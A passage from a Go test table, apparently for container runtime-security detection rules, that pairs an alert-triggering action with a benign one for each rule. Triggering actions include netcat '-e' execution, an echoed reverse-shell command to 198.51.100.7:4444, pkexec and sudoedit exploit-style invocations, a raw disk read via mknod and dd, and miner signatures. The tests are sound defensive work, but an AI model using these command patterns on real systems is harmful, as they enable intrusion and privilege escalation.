		action{in: "new", run: []string{"-v", "/tmp:/data"}, sh: "true"}},
	{"Launch Disallowed Container",
		// The test's override allows every image but one.
		action{in: "new", image: disallowedImage, sh: "true"},
		action{in: "new", sh: "true"}},
	{"Interpreted procs inbound network activity",
		action{in: "host", sh: "/usr/bin/python3 -c 'import socket; s=socket.socket(); s.bind((\"198.51.100.1\", 0)); s.listen()' MARK",
			doc: "python3 listens on the test host's link address 198.51.100.1"},
		action{in: "host", sh: "/usr/bin/python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen()' MARK",
			doc: "python3 listens on loopback"}},
	{"Interpreted procs outbound network activity",
		action{in: "ctr", sh: busyboxAs("python3", "nslookup", "-timeout=1 -retry=1 x 198.51.100.7:53")},
		action{in: "ctr", sh: busyboxAs("python3", "nslookup", "-timeout=1 -retry=1 x 10.88.0.1:53")}},
	{"Unexpected K8s NodePort Connection",
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:30080"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:8080"}},
	{"Create Hidden Files or Directories",
		action{in: "ctr", sh: "/bin/mkdir /tmp/.MARK"},
		action{in: "ctr", sh: "/bin/mkdir /tmp/MARK"}},
	{"Detect outbound connections to common miner pool ports",
		// The agent learnt from the host's lookups that 198.51.100.7 is
		// pool.minexmr.com and 198.51.100.9 benign.example.com.
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 198.51.100.7:3333"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 198.51.100.9:3333"}},
	{"Detect crypto miners using the Stratum protocol",
		// The URL is put together in the container, so that podman's own
		// command line does not hold it.
		action{in: "ctr", sh: "p=stratum; /bin/echo $p+tcp://pool.example:3333"},
		action{in: "ctr", sh: "p=stratum; /bin/echo $p.tcp://pool.example:3333"}},
	{"Kubernetes Client Tool Launched in Container",
		action{in: "ctr", sh: busyboxAs("kubectl", "true", "")},
		action{in: "ctr", sh: "/bin/true"}},
	{"Container Drift Detected (chmod)",
		action{in: "ctr", sh: "echo x > /tmp/MARK; /bin/chmod +x /tmp/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK; /bin/chmod 644 /tmp/MARK"}},
	{"Container Drift Detected (open+create)",
		action{in: "ctr", sh: "/bin/cp /bin/busybox /tmp/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK"}},
	{"Container Run as Root User",
		action{in: "new", sh: "true"},
		action{in: "new", run: []string{"--user", "65534"}, sh: "true"}},
	{"Sudo Potential Privilege Escalation",
		// A login user's sudoedit with an argument ending in a backslash.
		action{in: "priv", sh: "echo 1000 > /proc/self/loginuid; " + busyboxAs("sudoedit", "sudoedit", `-s '\' MARK\\`)},
		action{in: "priv", sh: "echo 1000 > /proc/self/loginuid; " + busyboxAs("sudoedit", "sudoedit", "-s /etc/hosts MARK")}},
	{"Unprivileged Delegation of Page Faults Handling to a Userspace Process",
		action{in: "host", actor: "userfaultfd", uid: 1},
		action{in: "host", actor: "userfaultfd"}},
	{"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
		// pkexec without any argument, as the exploit runs it.
		action{in: "priv", sh: "echo 1000 > /proc/self/loginuid; " + busyboxAs("pkexec", "pkexec", "")},
		action{in: "priv", sh: "echo 1000 > /proc/self/loginuid; " + busyboxAs("pkexec", "pkexec", "/bin/true MARK")}},
	{"Java Process Class File Download",
		// A program whose argv[0] ends in java receives a class file's
		// magic number; the same program receiving HTTP does not.
		action{in: "host", sh: "exec -a /opt/jdk/bin/java /usr/bin/python3 -c 'import socket,sys; socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).recv(64)' CLASSPORT MARK",
			doc: "python3 run as `/opt/jdk/bin/java` receives a class file (`cafebabe...`) from a loopback server"},
		action{in: "host", sh: "exec -a /opt/jdk/bin/java /usr/bin/python3 -c 'import socket,sys; socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).recv(64)' PLAINPORT MARK",
			doc: "the same program receives an HTTP response"}},
	{"Modify Container Entrypoint",
		action{in: "ctr", sh: "echo x > /proc/self/fd/1"},
		action{in: "ctr", sh: "echo x > /tmp/MARK"}},
	{"Decoding Payload in Container",
		action{in: "ctr", sh: "echo aGk= | /bin/base64 -d"},
		action{in: "ctr", sh: "echo hi | /bin/base64"}},
	{"Basic Interactive Reconnaissance",
		// Typed at a terminal: the process leads its process group.
		action{in: "ctr", argv: []string{"/bin/id", "MARK"}, tty: true},
		action{in: "ctr", argv: []string{"/bin/id", "MARK"}}},
	{"Netcat/Socat Remote Code Execution on Host",
		action{in: "host", sh: "nc -w1 -e /bin/true 127.0.0.1 9"},
		action{in: "host", sh: "nc -w1 -z 127.0.0.1 9"}},
	{"Network Tool Executed During NPM Package Install",
		action{in: "ctr", sh: shellAs("npm", "/bin/nc -h; : MARK")},
		action{in: "ctr", sh: "/bin/nc -h"}},
	{"Known Cryptominer Process Executed",
		action{in: "ctr", sh: busyboxAs("xmrig", "true", "")},
		action{in: "ctr", sh: "/bin/true"}},
	{"Web Server Spawned Shell",
		action{in: "ctr", sh: shellAs("nginx", "/bin/sh -c true; : MARK")},
		action{in: "ctr", sh: shellAs("builder", "/bin/sh -c true; : MARK")}},
	{"Web Server Spawned Suspicious Child Process",
		action{in: "ctr", sh: shellAs("nginx", "/bin/whoami; : MARK")},
		action{in: "ctr", sh: shellAs("nginx", "/bin/date; : MARK")}},
	{"Reverse Shell from Web Server",
		action{in: "ctr", sh: shellAs("nginx", `/bin/sh -c "echo nc -e /bin/sh 198.51.100.7 4444"; : MARK`)},
		action{in: "ctr", sh: shellAs("nginx", `/bin/sh -c "echo hello"; : MARK`)}},
	{"Privileged Container Device Access",
		// The machine's sandbox refuses to open its disk (/dev/vda) even
		// to root on the host; its zram disk, under a name the rule
		// knows, is read as an attacker reads the host's disk.
		action{in: "priv", sh: "set -- $(stat -c '%t %T' /dev/zram0); mknod /dev/sdMARK b $((0x$1)) $((0x$2)); /bin/dd if=/dev/sdMARK of=/dev/null bs=512 count=1"},
		action{in: "priv", sh: "/bin/dd if=/dev/zero of=/dev/null bs=512 count=1"}},
	{"Container Access to Host Sensitive Paths",
		action{in: "ctr", sh: "mkdir -p /host && echo x > /host/MARK"},
		action{in: "ctr", sh: "mkdir -p /hostx && echo x > /hostx/MARK"}},
}
